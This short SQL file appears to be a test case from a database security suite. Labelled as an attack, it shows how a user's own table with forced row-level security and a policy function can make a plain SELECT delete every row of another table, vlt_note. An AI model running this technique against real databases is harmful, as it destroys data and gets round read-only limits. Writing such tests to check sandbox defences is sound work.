-- Writes by the policy of an own table.
-- wants: write
-- attack:
CREATE FUNCTION w() RETURNS boolean LANGUAGE plpgsql AS $$BEGIN DELETE FROM vlt_note; RETURN true; END$$;
ALTER TABLE mallory_own ENABLE ROW LEVEL SECURITY;
ALTER TABLE mallory_own FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON mallory_own USING (w());
SELECT * FROM mallory_own;
